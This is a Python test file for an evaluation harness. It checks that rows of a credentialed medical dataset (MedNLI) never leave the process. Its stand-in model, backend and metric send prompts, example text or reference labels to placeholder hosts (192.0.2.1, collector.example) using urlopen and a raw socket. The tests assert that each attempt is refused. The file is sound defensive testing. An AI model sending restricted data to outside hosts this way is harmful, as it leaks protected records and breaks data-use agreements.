"""While the rows of a credentialed task are in hand, nothing in this process reaches another machine: no model, no metric, no module."""

from __future__ import annotations

import socket
import urllib.request
from collections.abc import Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path

import numpy as np
import pytest

from harness.data import catalog
from harness.data.examples import SAMPLES
from harness.errors import DataUseRefused
from harness.metrics.base import Context, Measure, Metric, Samples, Statistics
from harness.runs import evaluate
from harness.runs.plan import Options
from harness.stats.bootstrap import Bootstrap
from harness.types import Model, ModelInfo, Request, Response, Scene

ELSEWHERE = "http://192.0.2.1/v1"


@pytest.fixture
def options(tmp_path: Path) -> Options:
    folder = tmp_path / "data" / "mednli"
    folder.mkdir(parents=True)
    lines = (SAMPLES / "mednli" / "mli_test_v1.jsonl").read_text().splitlines()[:2]
    (folder / "mli_test_v1.jsonl").write_text("".join(line + "\n" for line in lines))
    return Options(data_root=tmp_path / "data", accept_different=True, results=tmp_path / "results", plan=Bootstrap(resamples=0))


@dataclass(frozen=True)
class Caller:
    """A model that says it computes here, and asks another machine."""

    info: ModelInfo = field(default_factory=lambda: ModelInfo(name="caller", kind="python", identity="1"))
    scenes: list[Scene] = field(default_factory=list)

    def for_task(self, scene: Scene) -> Model:
        self.scenes.append(scene)
        return self

    def generate(self, requests: Sequence[Request]) -> Sequence[Response]:
        asked = urllib.request.Request(ELSEWHERE, data=requests[0].prompt.encode())
        urllib.request.urlopen(asked, timeout=5)  # noqa: S310
        return [Response(text="entailment") for _ in requests]


def test_a_model_that_calls_out_ends_the_run(options: Options) -> None:
    with pytest.raises(DataUseRefused, match=r"mednli, a dataset that is credentialed: .* asked for 192\.0\.2\.1 while it holds the data"):
        evaluate.evaluate(catalog.task("mednli"), Caller(), options)


def test_one_that_says_so_is_refused_before_it_has_seen_an_example(options: Options) -> None:
    backend = Caller(info=ModelInfo(name="caller", kind="python", identity="1", remote=True))
    with pytest.raises(DataUseRefused, match="--allow-remote"):
        evaluate.evaluate(catalog.task("mednli"), backend, options)
    assert backend.scenes == []
    assert not options.results.exists()


def test_a_backend_that_calls_out_with_its_examples_is_refused(options: Options) -> None:
    class Eager(Caller):
        def for_task(self, scene: Scene) -> Model:
            socket.create_connection(("collector.example", 443), timeout=5).sendall(scene.examples[0].input.text.encode())
            return self

    with pytest.raises(DataUseRefused, match=r"collector\.example"):
        evaluate.evaluate(catalog.task("mednli"), Eager(), options)


def test_a_metric_that_calls_out_computes_nothing(options: Options) -> None:
    class Still(Caller):
        def generate(self, requests: Sequence[Request]) -> Sequence[Response]:
            return [Response(text="entailment") for _ in requests]

    def call_out(samples: Samples, context: Context) -> Statistics:
        urllib.request.urlopen(urllib.request.Request(ELSEWHERE, data=samples.references[0][0].encode()), timeout=5)
        return Statistics(names=("n",), table=np.ones((len(samples), 1)))

    task = catalog.task("mednli")
    judge = Metric(name="judge", variant="out", measure=Measure(name="judge", run=call_out), value=lambda s, w: w @ s.table[:, 0])
    run = evaluate.evaluate(replace(task, metrics=(*task.metrics, judge)), Still(), options)
    [found] = [estimate for estimate in run.record.estimates if estimate.metric == "judge" and estimate.slice == "all"]
    assert found.value is None
    assert "DataUseRefused: mednli, a dataset that is credentialed: something in this process asked for 192.0.2.1" in found.note
